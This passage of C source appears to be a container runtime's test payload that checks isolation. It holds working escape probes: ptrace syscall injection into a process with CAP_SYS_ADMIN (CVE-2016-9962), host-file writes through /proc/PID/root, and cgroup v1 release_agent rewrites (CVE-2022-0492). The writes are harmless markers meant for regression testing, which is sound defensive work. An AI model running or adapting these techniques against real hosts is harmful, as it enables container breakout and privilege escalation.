				escaped += spy_fd(dirfd(fds), fe->d_name, target, &root, hostfile, &kind);
				note_fd(fe->d_name, target, kind);
			}
			if (fds)
				closedir(fds);
			static const char *const via[] = { "root", "cwd" };
			for (size_t i = 0; i < 2; i++) {
				snprintf(path, sizeof path, "/proc/%d/%s%s", pid, via[i], hostfile);
				int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
				if (w < 0)
					continue;
				if (write(w, "escaped\n", 8) == 8)
					escaped++;
				close(w);
			}
		}
		closedir(d);
	}
	for (int i = 0; i < nfd_notes; i++)
		printf("fd=%s kind=%s count=%d\n", fd_notes[i].what, fd_notes[i].kind, fd_notes[i].count);
	printf("seen=%d\nprotected=%d\ncaught=%d\nescaped=%d\n", seen, protected, caught, escaped);
	return 0;
}

/*
 * `ptrace-hijack SECONDS HOSTFILE [STOPFILE]` (CVE-2016-9962 with CAP_SYS_PTRACE, issue
 * 17): for SECONDS, or until STOPFILE exists, scans /proc for a process with
 * CAP_SYS_ADMIN in CapEff in our user namespace, PTRACE_ATTACHes it and makes it run injected syscalls (a
 * `syscall` instruction poked at its rip, arguments on its stack): open HOSTFILE, a path
 * resolved from the victim's root, for appending and write "hijacked" into it; and
 * mount the memory cgroup v1 hierarchy (fsopen/fsconfig/fsmount) and open its
 * release_agent for writing (nothing is written). The victim's registers and text are
 * restored and it is detached. Prints seen= (processes found with CAP_SYS_ADMIN),
 * hijacked= (attached while stopped with CAP_SYS_ADMIN), escaped= (HOSTFILE written),
 * cgroup= (release_agent opened) and `victim=PID CMDLINE` per hijack. x86-64 only.
 */
#if defined(__x86_64__)
/* 1 if pid has CAP_SYS_ADMIN in CapEff in our user namespace (capabilities in a user
 * namespace of its own give nothing outside it), 0 if not, -1 if unknown. */
static int cap_sys_admin_of(int pid)
{
	char path[64], line[256];
	struct stat self, other;
	snprintf(path, sizeof path, "/proc/%d/ns/user", pid);
	if (stat("/proc/self/ns/user", &self) < 0 || stat(path, &other) < 0)
		return -1;
	if (self.st_ino != other.st_ino)
		return 0;
	snprintf(path, sizeof path, "/proc/%d/status", pid);
	FILE *f = fopen(path, "re");
	int r = -1;
	if (!f)
		return -1;
	while (fgets(line, sizeof line, f))
		if (strncmp(line, "CapEff:", 7) == 0)
			r = (strtoull(line + 7, NULL, 16) >> 21) & 1;
	fclose(f);
	return r;
}

static long inject(int pid, const struct user_regs_struct *base, long nr, long a1, long a2, long a3, long a4,
		   long a5)
{
	struct user_regs_struct r = *base;
	int st;
	r.rax = nr;
	r.orig_rax = -1; /* no syscall restart on the way out of the stop */
	r.rdi = a1;
	r.rsi = a2;
	r.rdx = a3;
	r.r10 = a4;
	r.r8 = a5;
	if (ptrace(PTRACE_SETREGS, pid, 0, &r) < 0 || ptrace(PTRACE_SINGLESTEP, pid, 0, 0) < 0 ||
	    waitpid(pid, &st, __WALL) != pid || !WIFSTOPPED(st) || ptrace(PTRACE_GETREGS, pid, 0, &r) < 0)
		return -ESRCH;
	return (long)r.rax;
}

static int poke_bytes(int pid, unsigned long addr, const void *data, size_t len)
{
	for (size_t off = 0; off < len; off += sizeof(long)) {
		long w = 0;
		memcpy(&w, (const char *)data + off, len - off < sizeof w ? len - off : sizeof w);
		if (ptrace(PTRACE_POKEDATA, pid, addr + off, w) < 0)
			return -1;
	}
	return 0;
}

/* Returns 1 if the victim ran the injected syscalls while it had CAP_SYS_ADMIN. */
static int hijack(int pid, const char *hostfile, int *escaped, int *cgroup)
{
	struct user_regs_struct base;
	int st, hijacked = 0;
	if (ptrace(PTRACE_ATTACH, pid, 0, 0) < 0)
		return 0;
	if (waitpid(pid, &st, __WALL) != pid || !WIFSTOPPED(st) || cap_sys_admin_of(pid) != 1 ||
	    ptrace(PTRACE_GETREGS, pid, 0, &base) < 0) {
		ptrace(PTRACE_DETACH, pid, 0, 0);
		return 0;
	}
	errno = 0;
	long text = ptrace(PTRACE_PEEKTEXT, pid, base.rip, 0);
	if (errno != 0 || ptrace(PTRACE_POKETEXT, pid, base.rip, (text & ~0xffffL) | 0x050f) < 0) {
		ptrace(PTRACE_DETACH, pid, 0, 0);
		return 0;
	}
	/* Strings below the victim's stack pointer, past the red zone. */
	struct {
		char path[PATH_MAX];
		char cgroup[8], memory[8], agent[16], msg[16];
	} s;
	memset(&s, 0, sizeof s);
	snprintf(s.path, sizeof s.path, "%s", hostfile);
	strcpy(s.cgroup, "cgroup");
	strcpy(s.memory, "memory");
	strcpy(s.agent, "release_agent");
	strcpy(s.msg, "hijacked\n");
	unsigned long at = (base.rsp - 8192 - sizeof s) & ~15UL;
	if (poke_bytes(pid, at, &s, sizeof s) == 0) {
		hijacked = 1;
#define ADDR(field) (long)(at + offsetof(__typeof__(s), field))
		long fd = inject(pid, &base, SYS_openat, AT_FDCWD, ADDR(path), O_WRONLY | O_APPEND, 0, 0);
		if (fd >= 0) {
			if (inject(pid, &base, SYS_write, fd, ADDR(msg), 9, 0, 0) == 9)
				(*escaped)++;
			inject(pid, &base, SYS_close, fd, 0, 0, 0, 0);
		}
		long fs = inject(pid, &base, 430 /* fsopen */, ADDR(cgroup), 0, 0, 0, 0);
		if (fs >= 0) {
			long m = -1;
			if (inject(pid, &base, 431 /* fsconfig */, fs, 0 /* SET_FLAG */, ADDR(memory), 0, 0) == 0 &&
			    inject(pid, &base, 431, fs, 6 /* CMD_CREATE */, 0, 0, 0) == 0)
				m = inject(pid, &base, 432 /* fsmount */, fs, 0, 0, 0, 0);
			if (m >= 0) {
				long ra = inject(pid, &base, SYS_openat, m, ADDR(agent), O_WRONLY, 0, 0);
				if (ra >= 0) {
					(*cgroup)++;
					inject(pid, &base, SYS_close, ra, 0, 0, 0, 0);
				}
				inject(pid, &base, SYS_close, m, 0, 0, 0, 0);
			}
			inject(pid, &base, SYS_close, fs, 0, 0, 0, 0);
		}
#undef ADDR
	}
	ptrace(PTRACE_POKETEXT, pid, base.rip, text);
	ptrace(PTRACE_SETREGS, pid, 0, &base);
	ptrace(PTRACE_DETACH, pid, 0, 0);
	return hijacked;
}
#endif

static int cmd_ptrace_hijack(const char *secs, const char *hostfile, const char *stopfile)
{
#if defined(__x86_64__)
	double deadline = now_seconds() + strtod(secs, NULL);
	int seen = 0, hijacked = 0, escaped = 0, cgroup = 0;
	static unsigned char counted[1 << 16], done[1 << 16];
	char cmdline[256];
	/* The test watches for victims while the attack runs. */
	setvbuf(stdout, NULL, _IOLBF, 0);
	while (now_seconds() < deadline && !(stopfile && access(stopfile, F_OK) == 0)) {
		DIR *d = opendir("/proc");
		struct dirent *de;
		if (!d)
			return fail("opendir", "/proc");
		while ((de = readdir(d))) {
			if (!is_pid_name(de->d_name))
				continue;
			int pid = atoi(de->d_name);
			if (pid == getpid() || pid == 1 || pid >= (1 << 16) || done[pid] || cap_sys_admin_of(pid) != 1)
				continue;
			if (!counted[pid]) {
				counted[pid] = 1;
				seen++;
			}
			read_cmdline(pid, cmdline, sizeof cmdline);
			/* A process in the middle of an execve (its cmdline reads empty then), or
			 * the positive control's victim while it is still nsenter's child: attacked
			 * then, the injected calls race with the execve (seen under load: hijacked,
			 * nothing written). It is not marked done: the next scan attacks what the
			 * execve made, if that still has CAP_SYS_ADMIN. */
			if (cmdline[0] == '\0' || strncmp(cmdline, "nsenter ", 8) == 0)
				continue;
			if (hijack(pid, hostfile, &escaped, &cgroup)) {
				done[pid] = 1;
				hijacked++;
				printf("victim=%d %s\n", pid, cmdline);
			}
		}
		closedir(d);
	}
	printf("seen=%d\nhijacked=%d\nescaped=%d\ncgroup=%d\n", seen, hijacked, escaped, cgroup);
	return 0;
#else
	(void)secs;
	(void)hostfile;
	(void)stopfile;
	fprintf(stderr, "ptrace-hijack: x86-64 only\n");
	return 1;
#endif
}

/*
 * `filter-spy NAME SECONDS STOPFILE`: for SECONDS, or until STOPFILE exists, reads the
 * Seccomp: line of every process whose cmdline contains NAME (the runtime's, before
 * they execute the container's program). Prints seen= (such processes) and
 * unfiltered= (seen with Seccomp: 0 at least once), and `unfiltered=PID CMDLINE`.
 */
static int cmd_filter_spy(const char *name, const char *secs, const char *stopfile)
{
	double deadline = now_seconds() + strtod(secs, NULL);
	int seen = 0, unfiltered = 0;
	static unsigned char counted[1 << 16], bad[1 << 16];
	char cmdline[256], path[64], line[256];
	setvbuf(stdout, NULL, _IOLBF, 0);
	while (now_seconds() < deadline && access(stopfile, F_OK) != 0) {
		DIR *d = opendir("/proc");
		struct dirent *de;
		if (!d)
			return fail("opendir", "/proc");
		while ((de = readdir(d))) {
			if (!is_pid_name(de->d_name))
				continue;
			int pid = atoi(de->d_name);
			if (pid == getpid() || pid >= (1 << 16) || bad[pid])
				continue;
			read_cmdline(pid, cmdline, sizeof cmdline);
			if (!strstr(cmdline, name))
				continue;
			snprintf(path, sizeof path, "/proc/%d/status", pid);
			FILE *f = fopen(path, "re");
			if (!f)
				continue;
			int mode = -1;
			while (fgets(line, sizeof line, f))
				if (strncmp(line, "Seccomp:", 8) == 0)
					mode = atoi(line + 8);
			fclose(f);
			/* Still the runtime's? (it may have executed the program meanwhile) */
			read_cmdline(pid, cmdline, sizeof cmdline);
			if (mode < 0 || !strstr(cmdline, name))
				continue;
			if (!counted[pid]) {
				counted[pid] = 1;
				seen++;
			}
			if (mode == 0) {
				bad[pid] = 1;
				unfiltered++;
				printf("unfiltered=%d %s\n", pid, cmdline);
			}
		}
		closedir(d);
	}
	printf("seen=%d\nunfiltered=%d\n", seen, unfiltered);
	return 0;
}

/*
 * `abstract-unix SUBSTR SECONDS`: for SECONDS, reads /proc/net/unix and tries to
 * connect to every abstract socket whose name contains SUBSTR. Prints abstract=
 * (distinct abstract names seen), matching=, connected=, and `name=@NAME` per match.
 */
static int cmd_abstract_unix(const char *substr, const char *secs)
{
	double deadline = now_seconds() + strtod(secs, NULL);
	/* "@" and up to 107 bytes of name (sun_path less its leading NUL), and a NUL. */
	static char names[256][109];
	int nnames = 0, matching = 0, connected = 0;
	do {
		char line[1024];
		FILE *f = fopen("/proc/net/unix", "re");
		if (!f)
			return fail("open", "/proc/net/unix");
		while (fgets(line, sizeof line, f)) {
			/* Num RefCount Protocol Flags Type St Inode Path */
			char sockpath[512] = "";
			if (sscanf(line, "%*s %*s %*s %*s %*s %*s %*s %511s", sockpath) != 1 || sockpath[0] != '@')
				continue;
			int known = 0;
			for (int i = 0; i < nnames && !known; i++)
				known = strcmp(names[i], sockpath) == 0;
			/* A longer name belongs to no socket; skipping it also keeps the copy below
			 * provably within bounds (gcc 12's -Wformat-truncation at -O0 broke on snprintf). */
			size_t plen = strlen(sockpath);
			if (known || nnames == 256 || plen >= sizeof names[0])
				continue;
			memcpy(names[nnames++], sockpath, plen + 1);
			if (!strstr(sockpath + 1, substr))
				continue;
			matching++;
			printf("name=%s\n", sockpath);
			static const int types[] = { SOCK_STREAM, SOCK_SEQPACKET, SOCK_DGRAM };
			for (size_t t = 0; t < 3; t++) {
				struct sockaddr_un sa = { .sun_family = AF_UNIX };
				size_t len = strlen(sockpath + 1);
				if (len > sizeof sa.sun_path - 1)
					len = sizeof sa.sun_path - 1;
				memcpy(sa.sun_path + 1, sockpath + 1, len);
				int s = socket(AF_UNIX, types[t] | SOCK_CLOEXEC, 0);
				int r = connect(s, (struct sockaddr *)&sa,
						(socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + len));
				close(s);
				if (r == 0) {
					connected++;
					break;
				}
			}
		}
		fclose(f);
		usleep(2000);
	} while (now_seconds() < deadline);
	printf("abstract=%d\nmatching=%d\nconnected=%d\n", nnames, matching, connected);
	return 0;
}

/* Writes a cgroup v1 release_agent back with the value it already has, so that a
 * write that the kernel should refuse changes nothing on the host if it is allowed.
 * Returns "ok" or "errno=NAME". */
static const char *rewrite_release_agent(const char *path)
{
	char cur[PATH_MAX + 2] = "";
	ssize_t n;
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0) {
		n = read(fd, cur, sizeof cur - 2);
		cur[n > 0 ? n : 0] = '\0';
		close(fd);
	}
	if (cur[0] == '\0' || cur[strlen(cur) - 1] != '\n')
		strcat(cur, "\n");
	static char result[64];
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0) {
		snprintf(result, sizeof result, "errno=%s", errno_name(errno));
		return result;
	}
	n = write(fd, cur, strlen(cur));
	int e = errno;
	close(fd);
	snprintf(result, sizeof result, "errno=%s", errno_name(e));
	return n < 0 ? result : "ok";
}

static int write_proc_file(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return -1;
	ssize_t n = write(fd, text, strlen(text));
	close(fd);
	return n < 0 ? -1 : 0;
}

/* Whether CONTROLLER is bound to a cgroup v1 hierarchy (/proc/cgroups: hierarchy != 0). */
static int v1_hierarchy(const char *controller)
{
	char name[64];
	int hierarchy, found = 0;
	FILE *f = fopen("/proc/cgroups", "re");
	if (!f)
		return 0;
	fscanf(f, "%*[^\n]\n"); /* the header */
	while (fscanf(f, "%63s %d %*d %*d\n", name, &hierarchy) == 2)
		if (strcmp(name, controller) == 0)
			found = hierarchy != 0;
	fclose(f);
	return found;
}

/*
 * `release-agent [userns]` (CVE-2022-0492): tries to write every release_agent under
 * /sys/fs/cgroup, then to mount cgroup v1 hierarchies on a fresh /tmp directory and
 * write their release_agent. With `userns`, first unshares user, mount and cgroup
 * namespaces as `unshare -UrmC` does. Every write puts back the value already there.
 * Controllers that no v1 hierarchy holds are not mounted (`mount-X=not-v1`).
 * Prints `KEY=ok` or `KEY=errno=NAME` lines; release_agent writes are `agent-...=` (one
 * per entry of /sys/fs/cgroup, whether or not it has a release_agent).
 */
static int cmd_release_agent(int userns)
{
	char path[PATH_MAX];
	if (userns) {
		uid_t uid = getuid();
		gid_t gid = getgid();
		if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0) {
			printf("unshare=errno=%s\n", errno_name(errno));
		} else {
			char map[64];
			printf("unshare=ok\n");
			write_proc_file("/proc/self/setgroups", "deny");
			snprintf(map, sizeof map, "0 %u 1", uid);
			write_proc_file("/proc/self/uid_map", map);
			snprintf(map, sizeof map, "0 %u 1", gid);
			write_proc_file("/proc/self/gid_map", map);
			mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
		}
	}
	DIR *d = opendir("/sys/fs/cgroup");
	struct dirent *de;
	while (d && (de = readdir(d))) {
		if (de->d_name[0] == '.')
			continue;
		snprintf(path, sizeof path, "/sys/fs/cgroup/%s/release_agent", de->d_name);
		printf("agent-%s=%s\n", de->d_name, rewrite_release_agent(path));
	}
	if (d)
		closedir(d);
	static const char *const ctls[] = { "rdma", "memory", "pids", "cpu", "freezer", "devices", "none,name=hulltest" };
	char dir[64];
	snprintf(dir, sizeof dir, "/tmp/cg-%d", getpid());
	mkdir(dir, 0700);
	for (size_t i = 0; i < sizeof ctls / sizeof ctls[0]; i++) {
		const char *key = strncmp(ctls[i], "none,name=", 10) == 0 ? "named" : ctls[i];
		/* Mounting a controller that no v1 hierarchy holds would take it from cgroup v2
		 * for the whole machine, should the mount be allowed. */
		if (strcmp(key, "named") != 0 && !v1_hierarchy(ctls[i])) {
			printf("mount-%s=not-v1\n", key);
			continue;
		}
		if (mount("cgroup", dir, "cgroup", MS_NOSUID | MS_NODEV | MS_NOEXEC, ctls[i]) < 0) {
			printf("mount-%s=errno=%s\n", key, errno_name(errno));
			continue;
		}
		printf("mount-%s=ok\n", key);
		snprintf(path, sizeof path, "%s/release_agent", dir);
		printf("agent-mounted-%s=%s\n", key, rewrite_release_agent(path));
		umount2(dir, MNT_DETACH);
	}
	rmdir(dir);
	return 0;
}

static void usage(FILE *out)
{
	fputs("usage: payload COMMAND [ARGS]\n"
	      "  true | false | exit N | sleep SECONDS|forever | echo ARGS...\n"
	      "  ids | caps | nnp | seccomp | umask | cwd | hostname | domainname | pid\n"
	      "  env [NAME] | rlimit NAME | fds | fdlinks | oomscore | hog MB\n"
	      "  try unshare-user|unshare-net|mount-tmpfs|sethostname|mknod|chown|kill-1|\n"
	      "      ptrace-traceme|setuid0|reboot-query|raw-socket|bind-80|mkdir|clone3\n"
	      "  ptrace-inject PID PATH (x86_64)\n"
	      "  stat PATH | write PATH TEXT | cat PATH | mounts | mountopts PATH | ns | tty\n"
	      "  signal-wait SIG [READYFILE]\n"
	      "  exchange-race DIR LINK... | exe-attack FIFO SECONDS\n"
	      "  proc-spy NAME SECONDS HOSTFILE | abstract-unix SUBSTR SECONDS\n"
	      "  release-agent [userns] | ptrace-hijack SECONDS HOSTFILE [STOPFILE]\n"
	      "  filter-spy NAME SECONDS STOPFILE\n",
	      out);
}

int main(int argc, char **argv)
{
	const char *cmd = argc > 1 ? argv[1] : "";
	const char *a1 = argc > 2 ? argv[2] : NULL;
	int nargs = argc - 2;
	struct utsname uts;

#define NEED(n)                       \
	do {                          \
		if (nargs < (n)) {    \
			usage(stderr); \
			return 2;      \
		}                     \
	} while (0)

	if (strcmp(cmd, "true") == 0)
		return 0;
	if (strcmp(cmd, "false") == 0)
		return 1;
	if (strcmp(cmd, "exit") == 0) {
		NEED(1);
		return atoi(a1);
	}
	if (strcmp(cmd, "sleep") == 0) {
		NEED(1);
		return cmd_sleep(a1);
	}
	if (strcmp(cmd, "echo") == 0) {
		for (int i = 2; i < argc; i++)
			printf("%s%s", argv[i], i + 1 < argc ? " " : "");
		printf("\n");
		return 0;
	}
	if (strcmp(cmd, "ids") == 0)
		return cmd_ids();
	if (strcmp(cmd, "caps") == 0)
		return cmd_caps();
	if (strcmp(cmd, "nnp") == 0)
		return print_status_field("NoNewPrivs");
	if (strcmp(cmd, "seccomp") == 0)
		return print_status_field("Seccomp");
	if (strcmp(cmd, "umask") == 0) {
		mode_t m = umask(0);
		umask(m);
		printf("%04o\n", (unsigned)m);
		return 0;
	}
	if (strcmp(cmd, "cwd") == 0) {
		char buf[PATH_MAX];
		if (!getcwd(buf, sizeof buf))
			return fail("getcwd", NULL);
		printf("%s\n", buf);
		return 0;
	}
	if (strcmp(cmd, "hostname") == 0 || strcmp(cmd, "domainname") == 0) {
		if (uname(&uts) < 0)
			return fail("uname", NULL);
		printf("%s\n", cmd[0] == 'h' ? uts.nodename : uts.domainname);
		return 0;
	}
	if (strcmp(cmd, "pid") == 0) {
		printf("pid=%d\nppid=%d\n", getpid(), getppid());
		return 0;
	}
	if (strcmp(cmd, "env") == 0) {
		if (a1) {
			const char *v = getenv(a1);
			if (!v)
				return 1;
			printf("%s\n", v);
			return 0;
		}
		for (char **e = environ; *e; e++)
			printf("%s\n", *e);
		return 0;
	}
	if (strcmp(cmd, "rlimit") == 0) {
		NEED(1);
		return cmd_rlimit(a1);
	}
	if (strcmp(cmd, "fds") == 0 || strcmp(cmd, "fdlinks") == 0)
		return cmd_fds(cmd[2] == 'l');
	if (strcmp(cmd, "oomscore") == 0)
		return cat_file("/proc/self/oom_score_adj");
	if (strcmp(cmd, "hog") == 0) {
		NEED(1);
		return cmd_hog(a1);
	}
	if (strcmp(cmd, "try") == 0) {
		NEED(1);
		return cmd_try(a1);
	}
#if defined(__x86_64__)
	if (strcmp(cmd, "ptrace-inject") == 0) {
		NEED(2);
		return cmd_ptrace_inject((pid_t)atoi(a1), argv[3]);
	}
#endif
	if (strcmp(cmd, "stat") == 0) {
		NEED(1);
		return cmd_stat(a1);
	}
	if (strcmp(cmd, "write") == 0) {
		NEED(2);
		return cmd_write(a1, argv[3]);
	}
	if (strcmp(cmd, "cat") == 0) {
		NEED(1);
		return cat_file(a1);
	}
	if (strcmp(cmd, "mounts") == 0)
		return cat_file("/proc/self/mountinfo");
	if (strcmp(cmd, "mountopts") == 0) {
		NEED(1);
		return cmd_mountopts(a1);
	}
	if (strcmp(cmd, "ns") == 0)
		return cmd_ns();
	if (strcmp(cmd, "tty") == 0)
		return cmd_tty();
	if (strcmp(cmd, "signal-wait") == 0) {
		NEED(1);
		return cmd_signal_wait(a1, nargs > 1 ? argv[3] : NULL);
	}
	if (strcmp(cmd, "exchange-race") == 0) {
		NEED(2);
		return cmd_exchange_race(nargs - 1, argv + 3, a1);
	}
	if (strcmp(cmd, "exe-attack") == 0) {
		NEED(2);
		return cmd_exe_attack(a1, argv[3]);
	}
	if (strcmp(cmd, "proc-spy") == 0) {
		NEED(3);
		return cmd_proc_spy(a1, argv[3], argv[4]);
	}
	if (strcmp(cmd, "ptrace-hijack") == 0) {
		NEED(2);
		return cmd_ptrace_hijack(a1, argv[3], nargs > 2 ? argv[4] : NULL);
	}
	if (strcmp(cmd, "filter-spy") == 0) {
		NEED(3);
		return cmd_filter_spy(a1, argv[3], argv[4]);
	}
	if (strcmp(cmd, "abstract-unix") == 0) {
		NEED(2);
		return cmd_abstract_unix(a1, argv[3]);
	}
	if (strcmp(cmd, "release-agent") == 0)
		return cmd_release_agent(nargs > 0 && strcmp(a1, "userns") == 0);
	if (strcmp(cmd, "help") == 0 || strcmp(cmd, "--help") == 0) {
		usage(stdout);
		return 0;
	}
	usage(stderr);
	return 2;
#undef NEED
}
